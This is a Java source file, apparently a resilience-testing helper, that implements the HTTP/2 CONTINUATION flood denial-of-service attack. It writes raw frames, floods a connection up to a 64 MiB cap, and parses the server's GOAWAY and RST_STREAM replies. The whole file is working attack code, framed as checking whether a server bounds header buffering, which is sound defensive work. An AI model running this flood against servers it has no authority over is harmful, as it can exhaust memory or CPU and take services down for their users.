package io.fedmesh.sidecar;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.IntFunction;

/**
 * The HTTP/2 CONTINUATION flood (2024, many servers): a HEADERS frame without END_HEADERS, then
 * CONTINUATION frames without end, so a server that buffers or decodes the header block as it grows
 * runs out of memory or CPU. Written as raw frames on an HTTP/2 connection (h2c, or TLS with ALPN
 * h2): the writer goes on until the server closes the connection or {@link #CAP} bytes are sent.
 * {@link #flood} is the same writer for other frame sequences ({@link ResetFloods}).
 */
public final class ContinuationFlood {
  /** Bytes of CONTINUATION frames the flood sends at most; a bounded server stops far earlier. */
  public static final long CAP = 64L << 20;

  /** The client connection preface. */
  public static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

  /**
   * How the flood ended; {@code goAwayLastStream} is the last stream id of the server's first
   * GOAWAY (the highest stream it may have acted on), -1 without one; {@code streamsTaken} the
   * client streams up to it that the server did not refuse (RST_STREAM REFUSED_STREAM), which it
   * may have handed to its app, -1 without a GOAWAY.
   */
  public record Result(
      boolean closedByServer,
      boolean goAway,
      long bytesWritten,
      int goAwayLastStream,
      int streamsTaken) {}

  private ContinuationFlood() {}

  /**
   * Floods {@code socket} (connected, handshake done) with CONTINUATION frames of {@code
   * fragmentSize} bytes each (0: empty frames) and reports whether the server closed it.
   */
  public static Result run(Socket socket, int fragmentSize) throws Exception {
    ByteArrayOutputStream opening = new ByteArrayOutputStream();
    opening.write(PREFACE);
    opening.write(frame(4, 0, 0, new byte[0])); // SETTINGS
    // HEADERS on stream 1, END_STREAM, no END_HEADERS: GET http / (indexed HPACK)
    opening.write(frame(1, 0x1, 1, new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84}));
    byte[] continuation = frame(9, 0, 1, new byte[fragmentSize]);
    return flood(socket, opening.toByteArray(), i -> continuation);
  }

  /**
   * Writes {@code opening}, then {@code next.apply(0)}, {@code next.apply(1)}, ... until the server
   * closes the connection or {@link #CAP} bytes are written, reading all the server sends.
   */
  public static Result flood(Socket socket, byte[] opening, IntFunction<byte[]> next)
      throws Exception {
    socket.setSoTimeout(20_000);
    OutputStream out = socket.getOutputStream();
    InputStream in = socket.getInputStream();
    CompletableFuture<byte[]> received =
        CompletableFuture.supplyAsync(
            () -> {
              ByteArrayOutputStream all = new ByteArrayOutputStream();
              byte[] buf = new byte[8192];
              try {
                int n;
                while ((n = in.read(buf)) != -1) {
                  all.write(buf, 0, n);
                }
              } catch (IOException e) {
                // reset by the server: as closed
              }
              return all.toByteArray();
            });
    AtomicLong written = new AtomicLong();
    Thread writer =
        new Thread(
            () -> {
              try {
                out.write(opening);
                for (int i = 0; written.get() < CAP; i++) {
                  byte[] b = next.apply(i);
                  out.write(b);
                  written.addAndGet(b.length);
                }
              } catch (IOException e) {
                // the server closed the connection
              }
            },
            "http2-flood");
    writer.setDaemon(true);
    writer.start();
    byte[] got = received.get(30, TimeUnit.SECONDS);
    long atClose = written.get();
    socket.close();
    writer.join(10_000);
    int lastStream = goAwayLastStream(got);
    int taken = lastStream < 0 ? -1 : (lastStream + 1) / 2 - refused(got, lastStream);
    return new Result(atClose < CAP, lastStream >= 0, atClose, lastStream, taken);
  }

  /** One HTTP/2 frame: 9-byte header and {@code payload}. */
  public static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] f = new byte[9 + payload.length];
    f[0] = (byte) (payload.length >>> 16);
    f[1] = (byte) (payload.length >>> 8);
    f[2] = (byte) payload.length;
    f[3] = (byte) type;
    f[4] = (byte) flags;
    f[5] = (byte) (stream >>> 24);
    f[6] = (byte) (stream >>> 16);
    f[7] = (byte) (stream >>> 8);
    f[8] = (byte) stream;
    System.arraycopy(payload, 0, f, 9, payload.length);
    return f;
  }

  /** The last stream id of the first GOAWAY frame in the server's bytes (frame by frame), or -1. */
  private static int goAwayLastStream(byte[] b) {
    for (int i = 0; i + 13 <= b.length; i = next(b, i)) {
      if (b[i + 3] == 7) {
        return int31(b, i + 9);
      }
    }
    return -1;
  }

  /** RST_STREAM frames with REFUSED_STREAM in the server's bytes for streams up to {@code last}. */
  private static int refused(byte[] b, int last) {
    int n = 0;
    for (int i = 0; i + 13 <= b.length; i = next(b, i)) {
      if (b[i + 3] == 3 && int31(b, i + 5) <= last && int31(b, i + 9) == 7) {
        n++;
      }
    }
    return n;
  }

  /** The offset of the frame after the one at {@code i}. */
  private static int next(byte[] b, int i) {
    return i + 9 + (((b[i] & 0xff) << 16) | ((b[i + 1] & 0xff) << 8) | (b[i + 2] & 0xff));
  }

  /** The 31-bit big-endian number at {@code i}. */
  private static int int31(byte[] b, int i) {
    return ((b[i] & 0x7f) << 24)
        | ((b[i + 1] & 0xff) << 16)
        | ((b[i + 2] & 0xff) << 8)
        | (b[i + 3] & 0xff);
  }
}
